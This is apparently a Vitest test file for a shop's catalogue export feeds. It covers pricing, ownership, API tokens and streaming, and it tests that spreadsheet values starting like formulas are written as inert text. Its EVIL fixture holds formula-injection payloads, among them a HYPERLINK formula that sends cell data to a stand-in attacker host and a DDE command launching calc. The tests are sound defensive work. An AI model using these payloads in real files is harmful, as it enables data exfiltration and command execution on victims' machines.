/**
 * Export lists and feeds against a real database: formula injection read back by real spreadsheet
 * readers, the owner's prices, every source of step 1, ownership across companies, token rules,
 * and that a feed waits for a slow reader instead of reading the catalogue ahead.
 */
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq, isNull, sql } from 'drizzle-orm';
import { parse as parseCsv } from 'csv-parse/sync';
import readXlsxFile from 'read-excel-file/node';
import { strFromU8, unzipSync } from 'fflate';
import { createTestDb, withoutPromotionPrices, type TestDb } from '../helpers/db';
import { companies, exportProfiles, favorites, priceTypes, productPrices, products, users, apiTokens } from '../../src/server/db/schema';
import { fromKopecks, moneyText, toKopecks } from '../../src/server/lib/money';
import { buildFeed, type BuildPlan } from '../../src/server/exports/build';
import { addExport, getExport, removeExport, saveStep, exportOwner, listExports, type ExportRow } from '../../src/server/exports/lists';
import { authenticateToken, generateToken, revokeToken, tokenInfo } from '../../src/server/exports/tokens';
import { effectiveFields, type Field, type Format } from '../../src/server/exports/settings';
import { discounted, loadPricing, personalPrice } from '../../src/server/catalog/pricing';
import { viewerFrom, type Viewer } from '../../src/server/http/guard';
import type { SessionUser } from '../../src/server/auth/session';
import { HttpError } from '../../src/server/http/api';

let tdb: TestDb;
let companyId: number;
let otherCompanyId: number;
const EVIL = { name: '=HYPERLINK("http://evil.example/?x="&A1,"Скидка")', article: '@SUM(1+1)', description: '+cmd|\' /C calc\'!A0', brandName: '-2+3' };
let evilId: number;

function viewer(id: string, companyId: number | null, admin = false, permissions: string[] = []): Viewer {
  const user: SessionUser = { id, name: id, email: `${id}@x.by`, phone: null, companyId, isContragentAdmin: admin, isStaff: false, permissions, orderLimit: null, orderLimitPeriod: 'order', defaultBranchId: null };
  return viewerFrom({ user } as App.Locals)!;
}

const admin = () => viewer('demo-admin', companyId, true);
const retail = () => viewer('demo-retail', null);

beforeAll(async () => {
  tdb = await createTestDb({ products: 300 });
  const db = tdb.db;
  await withoutPromotionPrices(db);
  const [c] = await db.select({ id: companies.id }).from(companies).limit(1);
  companyId = c!.id;
  const [other] = await db.insert(companies).values({ name: 'ООО «Другая»', unp: '290000001', discountPercent: '3.00' }).returning({ id: companies.id });
  otherCompanyId = other!.id;
  await db.insert(users).values({ id: 'other-admin', name: 'Чужой админ', email: 'boss@other.by', companyId: otherCompanyId, isContragentAdmin: true });
  const [p] = await db.select().from(products).where(eq(products.sectionId, 3)).limit(1);
  const [evil] = await db
    .insert(products)
    .values({ ...p!, id: undefined, code: 'evil-formula', article: EVIL.article, articleNorm: 'EVILSUM', name: EVIL.name, description: EVIL.description, createdAt: undefined, updatedAt: undefined })
    .returning({ id: products.id });
  evilId = evil!.id;
});
afterAll(() => tdb?.drop());

function listRow(settings: ExportRow['settings'], owner: { companyId: number | null; userId: string } = { companyId, userId: 'demo-admin' }): BuildPlan['list'] {
  return { id: 1, name: 'Тест', companyId: owner.companyId, userId: owner.userId, settings };
}

async function build(format: Format, fields: Field[], settings: ExportRow['settings'], companyIdForPrices: number | null = companyId): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const ended = new Promise((r) => out.on('end', r));
  const rows = await buildFeed(tdb.db, { list: listRow(settings), format, fields: effectiveFields(format, fields), companyId: companyIdForPrices, site: 'https://shop.by', date: new Date() }, out);
  await ended;
  expect(rows).not.toBeNull();
  return Buffer.concat(chunks);
}

describe('spreadsheet safety: a value that starts like a formula never becomes one', () => {
  const fields: Field[] = ['article', 'name', 'description', 'my_price'];
  const only = { source: 'articles' as const, articles: ['EVILSUM'] };

  it('CSV (read with csv-parse): the cell is text with a leading apostrophe, nothing else changed', async () => {
    const buf = await build('csv', fields, only);
    expect(buf.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parseCsv(buf, { delimiter: ';', bom: true }) as string[][];
    expect(rows[0]).toEqual(['Артикул', 'Наименование', 'Описание', 'Ваша цена, BYN']);
    expect(rows).toHaveLength(2);
    expect(rows[1]![0]).toBe(`'${EVIL.article}`);
    expect(rows[1]![1]).toBe(`'${EVIL.name}`);
    expect(rows[1]![2]).toBe(`'${EVIL.description}`);
    expect(rows[1]![3]).toMatch(/^\d+,\d{2}$/);
  });

  it('XLSX (read with read-excel-file): the exact text in a text cell, no formula anywhere in the sheet', async () => {
    const buf = await build('xlsx', fields, only);
    const [sheet] = await readXlsxFile(buf);
    expect(sheet!.data[1]!.slice(0, 3)).toEqual([EVIL.article, EVIL.name, EVIL.description]);
    expect(typeof sheet!.data[1]![3]).toBe('number');
    const xml = strFromU8(unzipSync(new Uint8Array(buf))['xl/worksheets/sheet1.xml']!);
    expect(xml).not.toMatch(/<f[\s>]/);
    // The Text number format ("@", built-in id 49) keeps the cell text even when someone edits it in Excel.
    const styles = strFromU8(unzipSync(new Uint8Array(buf))['xl/styles.xml']!);
    const xfs = [.../<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)![1]!.matchAll(/<xf [^>]*>/g)].map((m) => m[0]);
    const textStyle = xfs.findIndex((xf) => xf.includes('numFmtId="49"'));
    expect(textStyle).toBeGreaterThan(0);
    for (const ref of ['A2', 'B2', 'C2']) expect(xml).toMatch(new RegExp(`<c r="${ref}" s="${textStyle}" t="(str|inlineStr|s)">`));
  });
});

describe('prices and selection', () => {
  it('every price is the company price of the catalogue pricing; retail lists get the retail price', async () => {
    const buf = await build('json', ['article', 'my_price', 'retail_price'], { source: 'brands', brandIds: [1, 2] });
    const items = JSON.parse(buf.toString()).items as { id: number; price: number; retail_price: number }[];
    expect(items.length).toBeGreaterThan(3);
    const rows = await tdb.db.select().from(products).where(sql`${products.id} IN (${sql.join(items.map((i) => sql`${i.id}`), sql`, `)})`);
    const pricing = await loadPricing(tdb.db, { companyId });
    const expected = rows.map((r) => ({ id: r.id, price: Number(r.price), personalPrice: personalPrice(pricing, { id: r.id, price: Number(r.price), brandId: r.brandId, sectionId: r.sectionId }) }));
    for (const item of items) {
      const e = expected.find((x) => x.id === item.id)!;
      expect(item.price).toBe(e.personalPrice);
      expect(item.retail_price).toBe(e.price);
      expect(item.price).toBeLessThan(item.retail_price);
    }
    const retailBuf = await build('json', ['my_price', 'retail_price'], { source: 'brands', brandIds: [1] }, null);
    for (const item of JSON.parse(retailBuf.toString()).items) expect(item.price).toBe(item.retail_price);
  });

  it('a company with a contract price list: the feed carries the list price where there is one, the discount elsewhere', async () => {
    const [type] = await tdb.db.insert(priceTypes).values({ externalId: 'exports-db-list', name: 'Оптовая выгрузки' }).returning({ id: priceTypes.id });
    const rows = await tdb.db.select({ id: products.id, price: products.price, brandId: products.brandId, sectionId: products.sectionId }).from(products).where(sql`${products.brandId} IN (1, 2)`);
    // Every other product gets a list price: 3/4 of retail, plus 1.23 so it is never the discounted price by chance.
    const listed = new Map(rows.filter((_, i) => i % 2 === 0).map((r) => [r.id, moneyText(fromKopecks(Math.round(toKopecks(r.price) * 0.75) + 123))]));
    await tdb.db.insert(productPrices).values([...listed].map(([productId, price]) => ({ productId, priceTypeId: type!.id, price })));
    await tdb.db.update(companies).set({ priceTypeId: type!.id }).where(eq(companies.id, companyId));
    try {
      const items = JSON.parse((await build('json', ['article', 'my_price', 'retail_price'], { source: 'brands', brandIds: [1, 2] })).toString()).items as { id: number; price: number }[];
      const withList = (await loadPricing(tdb.db, { companyId }))!;
      let fromList = 0;
      for (const item of items) {
        const r = rows.find((x) => x.id === item.id)!;
        if (listed.has(item.id)) {
          fromList++;
          expect(item.price).toBe(Number(listed.get(item.id)));
        } else expect(item.price).toBe(discounted(Number(r.price), withList.percentFor(r.brandId, r.sectionId)));
      }
      expect(fromList).toBeGreaterThan(1);
      expect(fromList).toBeLessThan(items.length);
    } finally {
      await tdb.db.update(companies).set({ priceTypeId: null }).where(eq(companies.id, companyId));
    }
  });

  it('sources: favourites of the maker, what the company bought, articles, in stock only', async () => {
    const ids = (buf: Buffer) => (JSON.parse(buf.toString()).items as { id: number }[]).map((i) => i.id);
    const db = tdb.db;
    const [a, b] = await db.select({ id: products.id }).from(products).orderBy(products.id).limit(2);
    await db.insert(favorites).values([{ ownerKey: 'u:demo-admin', productId: a!.id }, { ownerKey: 'u:demo-admin', productId: b!.id }, { ownerKey: 'u:demo-retail', productId: evilId }]);
    expect(ids(await build('json', ['name'], { source: 'favorites' }))).toEqual([a!.id, b!.id]);

    const bought = await db.execute(sql`SELECT DISTINCT oi.product_id AS id FROM order_items oi JOIN orders o ON o.id = oi.order_id WHERE o.company_id = ${companyId} AND o.status <> 'cancelled' AND o.created_at > now() - interval '36 months' ORDER BY 1`);
    const boughtIds = (bought as unknown as { rows: { id: number }[] }).rows.map((r) => r.id);
    expect(boughtIds.length).toBeGreaterThan(0);
    expect(ids(await build('json', ['name'], { source: 'purchased', months: 36 }))).toEqual(boughtIds);

    const [withArticle] = await db.select().from(products).where(eq(products.id, a!.id));
    expect(ids(await build('json', ['name'], { source: 'articles', articles: [withArticle!.articleNorm, 'NO-SUCH'] }))).toEqual([a!.id]);

    const inStock = ids(await build('json', ['stock'], { source: 'all', inStockOnly: true }));
    const zero = await db.select({ id: products.id }).from(products).where(eq(products.stockQty, 0));
    expect(zero.length).toBeGreaterThan(0);
    expect(inStock.some((id) => zero.some((z) => z.id === id))).toBe(false);
  });

  it('YML: shop, BYN, categories and offers with the core elements, whatever fields were picked', async () => {
    const xml = (await build('yml', ['stock'], { source: 'sections', sectionIds: [1] })).toString();
    expect(xml).toMatch(/^<\?xml version="1.0" encoding="UTF-8"\?>\n<yml_catalog date="\d{4}-\d\d-\d\dT\d\d:\d\d\+03:00">/);
    expect(xml).toContain('<currency id="BYN" rate="1"/>');
    const offer = /<offer id="\d+" available="(true|false)">([\s\S]*?)<\/offer>/.exec(xml)![2]!;
    for (const tag of ['name', 'vendor', 'vendorCode', 'url', 'price', 'currencyId', 'categoryId', 'picture', 'count']) expect(offer).toContain(`<${tag}>`);
  });
});

describe('a feed never reads ahead of its reader', () => {
  it('waits while the reader takes nothing, and stops when the reader goes away', async () => {
    const out = new PassThrough({ highWaterMark: 16 * 1024 });
    const run = buildFeed(tdb.db, { list: listRow({ source: 'all' }), format: 'csv', fields: ['article', 'name', 'description'], companyId, site: 'https://shop.by', date: new Date() }, out);
    // The first batch (after a header of a few bytes) is written in one go and fills the buffer; wait for it,
    // however slow the machine, then give the feed time to run ahead.
    for (const until = Date.now() + 20_000; out.readableLength < 16 * 1024 && Date.now() < until; ) await new Promise((r) => setTimeout(r, 20));
    const buffered = out.readableLength;
    expect(buffered).toBeGreaterThanOrEqual(16 * 1024);
    // One batch of 300 products' descriptions at most is buffered: nobody read it, so nothing more was fetched.
    await new Promise((r) => setTimeout(r, 300));
    expect(out.readableLength).toBe(buffered);
    out.destroy();
    expect(await run).toBeNull();
  });
});

describe("ownership: another company's list is not found and stays unchanged", () => {
  it('get, save a step, remove: 404 for the other company and for a retail customer', async () => {
    const mine = await addExport(tdb.db, admin(), { title: 'Наша', source: 'all', fields: ['article'], format: 'csv', schedule: 'daily' });
    const stranger = viewer('other-admin', otherCompanyId, true);
    for (const v of [stranger, retail()]) {
      await expect(getExport(tdb.db, v, mine.id)).rejects.toMatchObject({ status: 404 });
      await expect(saveStep(tdb.db, v, { id: mine.id, step: 4, draft: false }, { title: 'Взлом', schedule: 'always' })).rejects.toMatchObject({ status: 404 });
      await expect(removeExport(tdb.db, v, mine.id)).rejects.toMatchObject({ status: 404 });
      expect((await listExports(tdb.db, v)).some((i) => i.id === mine.id)).toBe(false);
    }
    const [row] = await tdb.db.select().from(exportProfiles).where(eq(exportProfiles.id, mine.id));
    expect(row!.name).toBe('Наша');
    expect(row!.ownerKey).toBe(exportOwner(admin()));
    // An employee of the same company with the right sees and edits the company's list.
    const foreman = viewer('demo-foreman', companyId, false, ['manage_exports']);
    expect((await getExport(tdb.db, foreman, mine.id)).name).toBe('Наша');
  });

  it('a step without a list starts only at step 1, and a list names the field it lacks', async () => {
    await expect(saveStep(tdb.db, admin(), { step: 2, draft: false }, { fields: ['name'] })).rejects.toBeInstanceOf(HttpError);
    const draft = await saveStep(tdb.db, admin(), { step: 1, draft: true }, { source: 'sections' });
    expect(draft.status).toBe('draft');
    expect(draft.step).toBe(0);
    const err = await saveStep(tdb.db, admin(), { id: draft.id, step: 1, draft: false }, { source: 'sections' }).catch((e: HttpError) => e);
    expect((err as HttpError).errors[0]).toMatchObject({ field: 'sectionIds', message: 'Разделы: выберите хотя бы один раздел' });
  });
});

describe('API tokens', () => {
  const named = (name: string, lists: number[] = []) => ({ name, lists });
  const live = () => tdb.db.select().from(apiTokens).where(and(eq(apiTokens.ownerKey, `c:${companyId}`), isNull(apiTokens.revokedAt)));
  const clear = () => tdb.db.update(apiTokens).set({ revokedAt: new Date() }).where(isNull(apiTokens.revokedAt));

  it('stored hashed; shown masked with its name; a second token leaves the first working (issue 28 #8)', async () => {
    await clear();
    const first = await generateToken(tdb.db, admin(), named('1С бухгалтерия'));
    expect(first.token).toMatch(/^instr_[A-Za-z0-9_-]{43}$/);
    const stored = await tdb.db.select().from(apiTokens);
    expect(JSON.stringify(stored)).not.toContain(first.token);
    const info = await tokenInfo(tdb.db, viewer('demo-foreman', companyId, false, ['manage_exports']));
    expect(info.items[0]).toMatchObject({ name: '1С бухгалтерия', masked: `instr_${'•'.repeat(12)}${first.token.slice(-4)}`, lists: null, canRevoke: false });
    expect(await authenticateToken(tdb.db, first.token)).toMatchObject({ ownerKey: `c:${companyId}`, companyId, lists: null });
    const second = await generateToken(tdb.db, viewer('demo-foreman', companyId, false, ['manage_exports']), named(''));
    expect(second.item.name).toMatch(/^Токен от \d{2}\.\d{2}\.\d{4}$/);
    expect(await authenticateToken(tdb.db, first.token)).not.toBeNull();
    expect(await authenticateToken(tdb.db, second.token)).not.toBeNull();
    expect((await tokenInfo(tdb.db, admin())).items.map((i) => i.name)).toEqual([second.item.name, '1С бухгалтерия']);
  });

  it('twenty presses at once make exactly the limit of ten; the rest are refused in Russian and every one made works', async () => {
    await clear();
    const made = await Promise.allSettled(Array.from({ length: 20 }, (_, i) => generateToken(tdb.db, admin(), named(`Система ${i}`))));
    const ok = made.filter((m) => m.status === 'fulfilled').map((m) => (m as PromiseFulfilledResult<{ token: string }>).value);
    const refused = made.filter((m) => m.status === 'rejected').map((m) => (m as PromiseRejectedResult).reason as HttpError);
    expect(ok).toHaveLength(10);
    expect(refused).toHaveLength(10);
    expect(refused[0]!.status).toBe(422);
    expect(refused[0]!.errors[0]!.message).toMatch(/Отзовите ненужный/);
    expect(await live()).toHaveLength(10);
    expect((await Promise.all(ok.map((m) => authenticateToken(tdb.db, m.token)))).every(Boolean)).toBe(true);
    await clear();
  });

  it("a token scoped to some lists carries them; another owner's list cannot be named, and nothing is made", async () => {
    const own = await addExport(tdb.db, admin(), { title: 'Для партнёра', source: 'all', fields: ['article'], format: 'csv', schedule: 'daily' });
    const [theirs] = await tdb.db.insert(exportProfiles).values({ ownerKey: `c:${otherCompanyId}`, companyId: otherCompanyId, userId: 'other-admin', name: 'Чужая', status: 'ready', settings: {}, format: 'csv' }).returning({ id: exportProfiles.id });
    const scoped = await generateToken(tdb.db, admin(), named('Партнёр', [own.id]));
    expect(scoped.item.lists).toEqual([{ id: own.id, name: 'Для партнёра' }]);
    expect((await authenticateToken(tdb.db, scoped.token))!.lists).toEqual([own.id]);
    const before = (await live()).length;
    const err = await generateToken(tdb.db, admin(), named('Взлом', [own.id, theirs!.id])).catch((e: HttpError) => e);
    expect((err as HttpError).status).toBe(422);
    expect((err as HttpError).errors[0]!.message).toBe('Выберите выгрузки из своего списка');
    expect((await live()).length).toBe(before);
  });

  it("revoking: the issuer his own, the admin any of the company's; a colleague 403 and another company or customer 404 — and their tries change nothing", async () => {
    await clear();
    const foreman = viewer('demo-foreman', companyId, false, ['manage_exports']);
    const adminToken = await generateToken(tdb.db, admin(), named('Интеграция админа'));
    const foremanToken = await generateToken(tdb.db, foreman, named('Прораб'));
    const colleague = await revokeToken(tdb.db, foreman, adminToken.item.id).catch((e: HttpError) => e);
    expect((colleague as HttpError).status).toBe(403);
    expect((colleague as HttpError).errors[0]!.message).toBe('Чужой токен может отозвать только администратор компании');
    for (const stranger of [viewer('other-admin', otherCompanyId, true), retail()]) {
      const e = await revokeToken(tdb.db, stranger, adminToken.item.id).catch((x: HttpError) => x);
      expect((e as HttpError).status).toBe(404);
    }
    expect(await authenticateToken(tdb.db, adminToken.token)).not.toBeNull();
    expect(await revokeToken(tdb.db, foreman, foremanToken.item.id)).toEqual({ id: foremanToken.item.id });
    expect(await authenticateToken(tdb.db, foremanToken.token)).toBeNull();
    expect(await authenticateToken(tdb.db, adminToken.token)).not.toBeNull();
    const again = await generateToken(tdb.db, foreman, named('Прораб 2'));
    expect(await revokeToken(tdb.db, admin(), again.item.id)).toEqual({ id: again.item.id });
    expect(await authenticateToken(tdb.db, again.token)).toBeNull();
    expect(((await revokeToken(tdb.db, admin(), again.item.id).catch((e: HttpError) => e)) as HttpError).status).toBe(404);
  });

  it('stops at once when its issuer is blocked, loses the right, or leaves the company', async () => {
    const foreman = viewer('demo-foreman', companyId, false, ['place_orders', 'manage_exports']);
    const { token } = await generateToken(tdb.db, foreman, { name: 'Прораб', lists: [] });
    expect(await authenticateToken(tdb.db, token)).not.toBeNull();
    const set = (patch: Partial<typeof users.$inferInsert>) => tdb.db.update(users).set(patch).where(eq(users.id, 'demo-foreman'));
    await set({ blocked: true });
    expect(await authenticateToken(tdb.db, token)).toBeNull();
    await set({ blocked: false, permissions: ['place_orders'] });
    expect(await authenticateToken(tdb.db, token)).toBeNull();
    await set({ permissions: ['place_orders', 'manage_exports'], companyId: otherCompanyId });
    expect(await authenticateToken(tdb.db, token)).toBeNull();
    await set({ companyId });
    expect(await authenticateToken(tdb.db, token)).not.toBeNull();
  });
});
